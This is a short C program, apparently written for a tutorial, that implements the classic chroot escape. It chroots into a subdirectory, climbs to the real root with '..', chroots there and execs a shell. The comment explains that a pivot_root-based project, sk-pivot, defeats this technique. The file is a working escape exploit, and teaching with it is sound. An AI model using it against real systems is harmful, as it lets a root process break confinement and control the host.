/* chroot_escape: the classic way out of a chroot, for docs/tutorial.md.
 *
 * chroot(2) changes only where "/" starts for path lookups; it does not
 * move the working directory. So a process that may call chroot (root,
 * CAP_SYS_CHROOT) chroots into a subdirectory while its working directory
 * stays above it: ".." from there is no longer stopped at the root, and it
 * climbs to the real one. There it chroots to "." and executes the rest of
 * its command line (default /bin/sh) in the real root.
 *
 * Inside sk-pivot's root the same steps find nothing above the container's
 * root: pivot_root(2) moved the mount itself and the old root is detached.
 *
 * Usage: chroot-escape [COMMAND [ARG...]]
 * Static (gcc -static), so it runs in any root filesystem.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <stdio.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

static int fail(const char *what) {
    fprintf(stderr, "chroot-escape: %s: %s\n", what, strerror(errno));
    return 1;
}

int main(int argc, char **argv) {
    char *sh[] = {"/bin/sh", NULL};
    char **cmd = argc > 1 ? argv + 1 : sh;

    if (mkdir("chroot-escape.d", 0755) != 0 && errno != EEXIST)
        return fail("mkdir chroot-escape.d");
    if (chroot("chroot-escape.d") != 0) /* the cwd stays outside */
        return fail("chroot chroot-escape.d");
    for (int i = 0; i < 64; i++) /* ".." at the real root stays there */
        if (chdir("..") != 0)
            return fail("chdir ..");
    if (chroot(".") != 0)
        return fail("chroot .");
    execv(cmd[0], cmd);
    return fail(cmd[0]);
}
